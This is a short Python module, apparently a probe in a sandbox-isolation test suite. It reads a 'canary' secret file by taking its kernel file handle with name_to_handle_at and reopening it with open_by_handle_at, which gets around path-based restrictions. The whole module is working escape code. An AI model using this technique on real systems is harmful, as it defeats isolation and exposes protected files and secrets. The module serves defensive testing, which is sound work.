"""Opens a secret by its handle, past all paths."""

import ctypes
import os

from kit import syscall

KIND = "secret"


def attack(canary):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, canary["file"].encode(), handle, ctypes.byref(mount), 0)
    place = os.open(os.path.dirname(canary["file"]), os.O_RDONLY)
    fd = syscall("open_by_handle_at", place, handle, os.O_RDONLY)
    return os.pread(fd, 4096, 0).decode()
